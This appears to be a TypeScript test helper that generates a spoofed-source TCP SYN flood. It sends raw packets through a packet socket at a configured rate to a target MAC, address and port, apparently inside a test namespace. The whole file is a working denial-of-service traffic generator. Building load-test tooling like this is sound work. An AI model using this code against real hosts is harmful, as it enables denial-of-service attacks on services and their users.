// A program for tests: sends SYNs from invented addresses and ports out of a device, so many a second. Prints a JSON line at the end.
// Started inside a namespace with its options as one JSON argument; calls host/ffi (a packet socket, sendmmsg).
//
// The addresses are of 10.66.0.0/16, which nobody has there: answers end at whoever routes them.

import { readFileSync } from 'node:fs';
import { addressOf, errno, errnoCode, libc, libcFunction } from '../../src/host/ffi.ts';

/** What the program is started with. */
export interface FloodOptions {
  readonly dev: string;
  /** MAC and IPv4 address of the victim, and its port. */
  readonly mac: string;
  readonly address: string;
  readonly port: number;
  /** SYNs a second, and for how long, ms. */
  readonly rate: number;
  readonly ms: number;
}

/** What it says: `refused` are those that the kernel's queue had no room for. */
export interface FloodResult {
  readonly sent: number;
  readonly refused: number;
  readonly ms: number;
}

const o = JSON.parse(process.argv[2]!) as FloodOptions;
const AF_PACKET = 17;
const SOCK_RAW = 3;
const MSG_DONTWAIT = 0x40;
const ENOBUFS = 105;
const EAGAIN = 11;
const BATCH = 64;
/** Ethernet, IPv4, TCP with 20 bytes of options; a frame begins every 128 bytes. */
const FRAME = 14 + 20 + 40;
const STRIDE = 128;
const OPTIONS = [2, 4, 5, 180, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7];

const bytes = new Uint8Array(new ArrayBuffer(BATCH * STRIDE));
const view = new DataView(bytes.buffer);
/** struct mmsghdr is 64 bytes: msg_name, msg_namelen, msg_iov (at 16), msg_iovlen (at 24), …; an iovec is 16 bytes. */
const messages = new BigUint64Array(new ArrayBuffer(BATCH * 80));

function sum(at: number, length: number, start: number): number {
  let total = start;
  for (let i = 0; i < length; i += 2) total += view.getUint16(at + i);
  while (total > 0xffff) total = (total & 0xffff) + (total >>> 16);
  return total;
}

function hex(mac: string): number[] {
  return mac
    .trim()
    .split(':')
    .map((part) => Number.parseInt(part, 16));
}

function template(own: string): void {
  const victim = o.address.split('.').map(Number);
  for (let i = 0; i < BATCH; i++) {
    const at = i * STRIDE;
    bytes.set([...hex(o.mac), ...hex(own), 8, 0], at);
    bytes.set([0x45, 0, 0, 60, 0, 0, 0x40, 0, 64, 6, 0, 0, 10, 66, 0, 0, ...victim], at + 14);
    bytes.set([0, 0, o.port >> 8, o.port & 255, 0, 0, 0, 0, 0, 0, 0, 0, 0xa0, 2, 0xfa, 0xf0, 0, 0, 0, 0], at + 34);
    bytes.set(OPTIONS, at + 54);
    const iov = BATCH * 8 + i * 2;
    messages[iov] = BigInt(addressOf(bytes) + at);
    messages[iov + 1] = BigInt(FRAME);
    messages[i * 8 + 2] = BigInt(addressOf(messages) + iov * 8);
    messages[i * 8 + 3] = 1n;
  }
}

let state = 88_172_645;
/** xorshift32: 32 bits that need not be good, only different. */
function random(): number {
  state ^= state << 13;
  state ^= state >>> 17;
  state ^= state << 5;
  return state >>> 0;
}

function fresh(at: number): void {
  view.setUint16(at + 14 + 14, random() & 0xffff);
  view.setUint16(at + 14 + 10, 0);
  view.setUint16(at + 14 + 10, ~sum(at + 14, 20, 0));
  view.setUint16(at + 34, 1024 + (random() % 60_000));
  view.setUint32(at + 34 + 4, random());
  view.setUint32(at + 54 + 8, random());
  view.setUint16(at + 34 + 16, 0);
  view.setUint16(at + 34 + 16, ~sum(at + 34, 40, sum(at + 26, 8, 6 + 40)));
}

const index = Number(readFileSync(`/sys/class/net/${o.dev}/ifindex`, 'utf8'));
template(readFileSync(`/sys/class/net/${o.dev}/address`, 'utf8'));
const fd = libc().socket(AF_PACKET, SOCK_RAW, 0);
const bind = libcFunction<(fd: number, address: Uint8Array, length: number) => number>('int bind(int, void *, int)');
/** struct sockaddr_ll: family, protocol 0 (to receive nothing), interface. */
const where = new Uint8Array(new ArrayBuffer(4096), 0, 20);
new DataView(where.buffer).setUint16(0, AF_PACKET, true);
new DataView(where.buffer).setInt32(4, index, true);
if (fd < 0 || bind(fd, where, 20) < 0) throw new Error(`no packet socket on ${o.dev}: ${errnoCode(errno())}`);
const sendmmsg = libcFunction<(fd: number, messages: number, count: number, flags: number) => number>(
  'int sendmmsg(int, uintptr_t, unsigned int, int)',
);

let sent = 0;
let refused = 0;
const start = performance.now();

function more(): void {
  const elapsed = Math.min(performance.now() - start, o.ms);
  const due = Math.floor((elapsed * o.rate) / 1000);
  while (sent + refused < due) {
    const n = Math.min(BATCH, due - sent - refused);
    for (let i = 0; i < n; i++) fresh(i * STRIDE);
    const taken = sendmmsg(fd, addressOf(messages), n, MSG_DONTWAIT);
    if (taken > 0) sent += taken;
    else if (errno() === ENOBUFS || errno() === EAGAIN) refused += n;
    else throw new Error(`sendmmsg: ${errnoCode(errno())}`);
  }
  if (elapsed < o.ms) setTimeout(more, 1);
  else process.stdout.write(`${JSON.stringify({ sent, refused, ms: performance.now() - start })}\n`);
}
more();
